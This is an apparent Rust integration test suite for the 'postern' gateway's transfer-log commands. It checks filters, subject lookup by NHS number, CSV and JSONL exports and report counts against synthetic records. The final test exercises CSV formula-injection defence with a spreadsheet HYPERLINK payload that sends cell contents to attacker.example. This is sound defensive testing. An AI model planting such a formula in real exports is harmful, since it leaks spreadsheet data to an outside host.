//! The data protection officer's search over the transfer log, through the real binary: every
//! filter of `postern log list` returns exactly the records a brute-force filter over the
//! generated data picks; `log subject` finds every decision about a person and no other; exports
//! round-trip; the report's counts match.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test may fail loudly

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command;
use std::sync::Arc;

use postern_gateway::domain::subject::SubjectKey;
use postern_gateway::store::Store;
use postern_gateway::testkit::synthetic::{self, Generated, Plan};
use serde_json::Value;

const KEY_HEX: &str = "8f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0";

async fn generated_log(state: &Path, records: u64) -> Vec<Generated> {
    let (store, _) = Store::open(state).expect("store");
    let key = SubjectKey::new(hex::decode(KEY_HEX).expect("hex")).expect("key");
    std::fs::create_dir_all(state.join("keys")).expect("keys dir");
    std::fs::write(state.join("keys/subject.key"), KEY_HEX).expect("key file");
    let mut out = Vec::new();
    let plan = Plan {
        records,
        seed: 20261122,
        people: 60,
        start: time::macros::datetime!(2026-01-01 00:00 UTC),
        batch: 97,
    };
    synthetic::generate(&store, plan, Arc::new(key), |g| out.push(g))
        .await
        .expect("generate");
    out
}

fn postern(state: &Path, args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_postern"))
        .args(args)
        .arg("--state-dir")
        .arg(state)
        .env_remove("RUST_BACKTRACE")
        .output()
        .expect("run postern");
    assert!(
        out.status.success(),
        "postern {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8")
}

fn seqs_of_lines(stdout: &str) -> BTreeSet<i64> {
    stdout
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).expect("json line")["seq"]
                .as_i64()
                .expect("seq")
        })
        .collect()
}

fn list(state: &Path, filter: &[&str]) -> BTreeSet<i64> {
    let mut args = vec!["log", "list", "--json", "--limit", "100000"];
    args.extend_from_slice(filter);
    seqs_of_lines(&postern(state, &args))
}

fn brute(all: &[Generated], keep: impl Fn(&Generated) -> bool) -> BTreeSet<i64> {
    all.iter().filter(|g| keep(g)).map(|g| g.seq).collect()
}

/// Which generated records a filter should find.
type Keep = Box<dyn Fn(&Generated) -> bool>;

/// Fields an envelope carries are absent from rejected records (there was no valid envelope).
fn enveloped(g: &Generated) -> bool {
    g.decision != "rejected"
}

#[tokio::test]
async fn each_filter_returns_exactly_the_matching_records() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("state");
    let all = generated_log(&state, 700).await;
    assert_eq!(all.len(), 700);

    let cases: Vec<(Vec<&str>, Keep)> = vec![
        (vec![], Box::new(|_| true)),
        (
            vec!["--sender", "northshire-police"],
            Box::new(|g| g.sender == "northshire-police"),
        ),
        (
            vec!["--recipient", "riverside-youth"],
            Box::new(|g| enveloped(g) && g.recipients.iter().any(|r| r == "riverside-youth")),
        ),
        (
            vec!["--originator", "northshire-health"],
            Box::new(|g| enveloped(g) && g.originator == "northshire-health"),
        ),
        (
            vec!["--purpose", "early-help"],
            Box::new(|g| enveloped(g) && g.purpose == "early-help"),
        ),
        (
            vec!["--lawful-basis", "legal_obligation"],
            Box::new(|g| enveloped(g) && g.lawful_basis == "legal_obligation"),
        ),
        (
            // Typed loosely, as a person would: case and separators do not matter.
            vec!["--marking", "official-sensitive personal"],
            Box::new(|g| enveloped(g) && g.marking == "OFFICIAL-SENSITIVE PERSONAL"),
        ),
        (
            vec!["--decision", "refused"],
            Box::new(|g| g.decision == "refused"),
        ),
        (
            vec!["--decision", "shared"],
            Box::new(|g| g.decision == "shared"),
        ),
        (
            vec!["--decision", "rejected"],
            Box::new(|g| g.decision == "rejected"),
        ),
        (
            vec!["--urgency", "urgent"],
            Box::new(|g| enveloped(g) && g.urgency == "urgent"),
        ),
        (
            vec!["--delivery-state", "dead"],
            Box::new(|g| g.delivery_states.contains(&"dead")),
        ),
        (
            // Records are one second apart from midnight: [00:02:00, 00:05:00).
            vec![
                "--from",
                "2026-01-01T00:02:00Z",
                "--to",
                "2026-01-01T00:05:00Z",
            ],
            Box::new(|g| {
                g.at.as_str() >= "2026-01-01T00:02:00" && g.at.as_str() < "2026-01-01T00:05:00"
            }),
        ),
        (
            // A date as --to includes the whole day.
            vec!["--from", "2026-01-01", "--to", "2026-01-01"],
            Box::new(|_| true),
        ),
        (vec!["--from", "2026-01-02"], Box::new(|_| false)),
        (
            vec![
                "--sender",
                "northshire-cc",
                "--purpose",
                "child-protection-s47",
                "--decision",
                "shared",
                "--to",
                "2026-01-01T00:08:00Z",
            ],
            Box::new(|g| {
                g.sender == "northshire-cc"
                    && g.purpose == "child-protection-s47"
                    && g.decision == "shared"
                    && g.at.as_str() < "2026-01-01T00:08:00"
            }),
        ),
    ];
    for (filter, keep) in &cases {
        let expected = brute(&all, keep);
        let got = list(&state, filter);
        assert_eq!(got, expected, "filter {filter:?}");
    }
    // The filters are not vacuous: each non-trivial one picks some records and leaves others.
    for (filter, keep) in cases.iter().skip(1).take(12) {
        let n = brute(&all, keep).len();
        assert!(n > 0 && n < all.len(), "filter {filter:?} picks {n}");
    }
    // A listing is newest first and honours --limit.
    let newest = postern(&state, &["log", "list", "--json", "--limit", "3"]);
    let seqs: Vec<i64> = newest
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).expect("json")["seq"]
                .as_i64()
                .expect("seq")
        })
        .collect();
    let mut three_newest: Vec<i64> = all.iter().map(|g| g.seq).collect();
    three_newest.sort_unstable_by(|a, b| b.cmp(a));
    three_newest.truncate(3);
    assert_eq!(seqs, three_newest);
}

#[tokio::test]
async fn subject_lookup_finds_every_decision_about_a_person_and_no_other() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("state");
    let all = generated_log(&state, 500).await;
    // Every person who appears, by how many records.
    let mut people: BTreeMap<&str, usize> = BTreeMap::new();
    for g in all.iter().filter(|g| enveloped(g)) {
        for s in &g.subjects {
            *people.entry(s.as_str()).or_default() += 1;
        }
    }
    assert!(people.len() > 20, "the data is about many people");
    for person in people.keys().take(25) {
        let expected = brute(&all, |g| {
            enveloped(g) && g.subjects.iter().any(|s| s == person)
        });
        let got = seqs_of_lines(&postern(&state, &["log", "subject", person, "--json"]));
        assert_eq!(got, expected, "subject {person}");
    }
    // Typed differently (spaces, upper-case scheme), an NHS number finds the same records.
    let nhs = people
        .keys()
        .find(|p| p.starts_with("nhs:"))
        .expect("an NHS number");
    let digits = &nhs[4..];
    let spaced = format!("NHS: {} {} {}", &digits[..3], &digits[3..6], &digits[6..]);
    assert_eq!(
        seqs_of_lines(&postern(&state, &["log", "subject", &spaced, "--json"])),
        seqs_of_lines(&postern(&state, &["log", "subject", nhs, "--json"])),
    );
    // Someone the log has never heard of.
    assert!(
        postern(&state, &["log", "subject", "case:NOBODY1", "--json"])
            .trim()
            .is_empty()
    );
    // The identifier never appears in what the tool prints.
    let table = Command::new(env!("CARGO_BIN_EXE_postern"))
        .args(["log", "subject", nhs, "--state-dir"])
        .arg(&state)
        .output()
        .expect("run");
    let printed = format!(
        "{}{}",
        String::from_utf8_lossy(&table.stdout),
        String::from_utf8_lossy(&table.stderr)
    );
    assert!(!printed.contains(digits), "the NHS number is not printed");
}

#[tokio::test]
async fn exports_round_trip_and_the_report_counts_match() {
    let dir = tempfile::tempdir().expect("tempdir");
    let state = dir.path().join("state");
    let all = generated_log(&state, 300).await;
    let bodies: BTreeMap<i64, Value> = {
        let conn = rusqlite::Connection::open(state.join("postern.db")).expect("db");
        let mut stmt = conn.prepare("SELECT seq, body FROM log").expect("prepare");
        stmt.query_map([], |r| Ok((r.get::<_, i64>(0)?, r.get::<_, Vec<u8>>(1)?)))
            .expect("query")
            .map(|r| {
                let (seq, body) = r.expect("row");
                (seq, serde_json::from_slice(&body).expect("json body"))
            })
            .collect()
    };

    // JSON lines: every record, oldest first, with the record exactly as chained.
    let jsonl = postern(&state, &["log", "export", "--format", "jsonl"]);
    let lines: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    assert_eq!(lines.len(), all.len());
    for (line, g) in lines.iter().zip(&all) {
        assert_eq!(line["seq"].as_i64(), Some(g.seq));
        assert_eq!(line["decision"], g.decision);
        assert_eq!(line["sender"], g.sender.as_str());
        assert_eq!(line["record"], bodies[&g.seq], "record {}", g.seq);
    }

    // CSV with a filter: the same rows as the listing, and each row's record column parses
    // back to the chained record.
    let csv_text = postern(
        &state,
        &["log", "export", "--format", "csv", "--decision", "shared"],
    );
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let col = |name: &str| headers.iter().position(|h| h == name).expect(name);
    let mut seqs = BTreeSet::new();
    for row in reader.records() {
        let row = row.expect("csv row");
        let seq: i64 = row[col("seq")].parse().expect("seq");
        let g = all.iter().find(|g| g.seq == seq).expect("generated");
        assert_eq!(&row[col("decision")], "shared");
        assert_eq!(&row[col("recipients")], g.recipients.join(";"));
        assert_eq!(&row[col("purpose")], g.purpose);
        let record: Value = serde_json::from_str(&row[col("record")]).expect("record json");
        assert_eq!(record, bodies[&seq]);
        assert_eq!(
            row[col("justification")],
            *bodies[&seq]["envelope"]["justification"]
                .as_str()
                .expect("text")
        );
        seqs.insert(seq);
    }
    assert_eq!(seqs, brute(&all, |g| g.decision == "shared"));

    // The report's counts, against the generated data.
    let report: Value =
        serde_json::from_str(&postern(&state, &["log", "report", "--json"])).expect("report json");
    let mut by_purpose: BTreeMap<String, i64> = BTreeMap::new();
    let mut by_recipient: BTreeMap<String, i64> = BTreeMap::new();
    let mut dead = 0;
    for g in all.iter().filter(|g| g.decision == "shared") {
        *by_purpose.entry(g.purpose.clone()).or_default() += 1;
        for r in &g.recipients {
            *by_recipient.entry(r.clone()).or_default() += 1;
        }
        dead += g.delivery_states.iter().filter(|s| **s == "dead").count();
    }
    let as_map = |v: &Value| -> BTreeMap<String, i64> {
        v.as_object()
            .expect("object")
            .iter()
            .map(|(k, n)| (k.clone(), n.as_i64().expect("count")))
            .collect()
    };
    assert_eq!(as_map(&report["shared_by_purpose"]), by_purpose);
    assert_eq!(as_map(&report["shared_by_recipient"]), by_recipient);
    assert_eq!(
        report["decisions"]["refused"].as_i64(),
        Some(all.iter().filter(|g| g.decision == "refused").count() as i64)
    );
    let refusals: i64 = as_map(&report["refused_by_reason"]).values().sum();
    assert_eq!(
        refusals,
        all.iter().filter(|g| g.decision == "refused").count() as i64
    );
    assert_eq!(
        report["dead_deliveries"].as_array().expect("array").len(),
        dead
    );
}

/// A CSV export is opened in spreadsheets: a cell a sender wrote that a spreadsheet would run as
/// a formula (`=`, `+`, `-`, `@`, tab, CR at the start) is neutralised with a leading `'`; the
/// JSON lines export keeps the text exactly.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_are_never_formulas_and_jsonl_is_unchanged() {
    let d = common::Deployment::new();
    let server = d.start().await;
    let mut conn = d.connect(server.addr, "northshire-cc").await;
    let formula = "=HYPERLINK(\"https://attacker.example/\"&A1,\"Open\")";
    let a = common::submit(
        &mut conn,
        &common::envelope(serde_json::json!({ "justification": formula })),
        vec![1; 100],
        None,
    )
    .await;
    assert_eq!(a.status, 202);
    server.stop().await;

    let csv_text = postern(&d.state_dir, &["log", "export", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let col = headers
        .iter()
        .position(|h| h == "justification")
        .expect("justification column");
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.expect("row")[col].to_owned())
        .collect();
    assert_eq!(cells, vec![format!("'{formula}")]);
    let jsonl = postern(&d.state_dir, &["log", "export", "--format", "jsonl"]);
    let line: Value = serde_json::from_str(jsonl.lines().next().expect("a line")).expect("json");
    assert_eq!(line["record"]["envelope"]["justification"], formula);
}
